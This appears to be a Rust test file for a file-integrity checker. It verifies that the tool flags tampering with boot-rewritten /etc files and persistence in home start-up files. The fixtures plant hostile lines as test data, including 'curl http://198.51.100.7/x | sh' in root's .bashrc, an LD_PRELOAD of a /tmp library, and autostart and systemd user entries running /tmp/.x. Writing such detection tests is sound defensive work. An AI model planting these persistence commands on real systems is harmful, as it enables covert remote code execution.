//! The built-in policy covers persistence, not just binaries (issue 10 §5): files
//! rewritten at boot are watched for what may not change about them, and the shell and
//! session start-up files in homes are watched whole.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod util;

use serde_json::Value;
use util::{findings_of, Tree};

const DEFAULT_POLICY: &str = include_str!("../policy/default.toml");

/// A tree with the boot-rewritten files and two homes, baked with the built-in policy.
fn baked() -> Tree {
    let t = Tree::new();
    t.write_policy(DEFAULT_POLICY);
    t.file("/etc/hostname", b"image\n")
        .file("/etc/hosts", b"127.0.0.1 localhost\n")
        .file("/etc/resolv.conf", b"nameserver 192.0.2.53\n")
        .file("/root/.bashrc", b"# root's bashrc\n")
        .file("/root/.profile", b"# root's profile\n")
        .file("/root/.bash_history", b"ls\n")
        .file("/home/alice/.bashrc", b"# alice's bashrc\n")
        .file("/home/alice/.profile", b"# alice's profile\n")
        .file("/home/alice/notes.txt", b"todo\n")
        .file("/home/alice/.cache/thumbs", b"x\n")
        .dir("/home/alice/.config");
    t.create();
    t
}

/// (path, severity, rule) of every finding.
fn graded(report: &Value) -> Vec<(String, String, String)> {
    let mut found: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                f["rule"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    found.sort();
    found
}

#[test]
fn r10_files_rewritten_at_boot_may_change_content_but_not_kind_or_owner() {
    let t = baked();
    // What boot does: new content, new size, new mtime.
    t.file("/etc/hostname", b"web-17.example.org\n")
        .file("/etc/hosts", b"127.0.0.1 localhost\n10.0.0.17 web-17\n")
        .file(
            "/etc/resolv.conf",
            b"nameserver 10.0.0.2\nsearch example.org\n",
        );
    t.assert_clean();

    // What an attacker does: a symlink, a directory, a world-writable file.
    t.remove("/etc/resolv.conf")
        .symlink("/etc/resolv.conf", "/run/attacker/resolv.conf");
    t.remove("/etc/hostname").dir("/etc/hostname");
    t.chmod("/etc/hosts", 0o666);
    let out = t.check();
    out.assert_code(1);
    let report = out.json();
    let rule = "rewritten at boot".to_string();
    assert_eq!(
        graded(&report),
        [
            (
                "/etc/hostname".to_string(),
                "high".to_string(),
                rule.clone()
            ),
            ("/etc/hosts".to_string(), "high".to_string(), rule.clone()),
            (
                "/etc/resolv.conf".to_string(),
                "high".to_string(),
                rule.clone()
            ),
        ],
        "{out}"
    );
    let attributes = |path: &str| -> Vec<String> {
        findings_of(&report)
            .into_iter()
            .find(|f| f.path == path)
            .unwrap_or_else(|| panic!("no finding at {path}"))
            .attributes
    };
    assert!(attributes("/etc/resolv.conf").contains(&"type".to_string()));
    assert!(attributes("/etc/hostname").contains(&"type".to_string()));
    assert_eq!(attributes("/etc/hosts"), ["mode"]);
}

#[test]
fn r10_start_up_files_in_homes_are_watched_and_the_rest_of_homes_is_not() {
    let t = baked();
    // Volatile data of people: not drift.
    t.file("/home/alice/notes.txt", b"done\n")
        .file("/home/alice/.cache/thumbs", b"y\n")
        .file("/root/.bash_history", b"ls\nid\n")
        .file("/home/bob/Documents/a.txt", b"new home, new files\n");
    t.assert_clean();

    // Persistence: every start-up file and directory, in /root and in /home/*.
    t.file("/root/.bashrc", b"curl http://198.51.100.7/x | sh\n")
        .file("/root/.zshrc", b"exec /tmp/.x\n")
        .file("/home/alice/.profile", b"export LD_PRELOAD=/tmp/x.so\n")
        .file("/home/alice/.bash_logout", b"/tmp/.x &\n")
        .file(
            "/home/alice/.config/autostart/update.desktop",
            b"[Desktop Entry]\nExec=/tmp/.x\n",
        )
        .file(
            "/home/alice/.config/systemd/user/update.service",
            b"[Service]\nExecStart=/tmp/.x\n",
        )
        .file("/home/bob/.bash_profile", b"/tmp/.x\n");
    let out = t.check();
    out.assert_code(1);
    let found = graded(&out.json());
    let paths: Vec<&str> = found.iter().map(|(p, _, _)| p.as_str()).collect();
    for expected in [
        "/home/alice/.bash_logout",
        "/home/alice/.config/autostart/update.desktop",
        "/home/alice/.config/systemd/user/update.service",
        "/home/alice/.profile",
        "/home/bob/.bash_profile",
        "/root/.bashrc",
        "/root/.zshrc",
    ] {
        assert!(
            paths.contains(&expected),
            "{expected} not reported: {found:?}"
        );
    }
    // Nothing else: no volatile data, and each at the start-up files' grade.
    for (path, severity, rule) in &found {
        assert_eq!(
            (severity.as_str(), rule.as_str()),
            ("high", "shell and session start-up files"),
            "{path}: {found:?}"
        );
    }
}
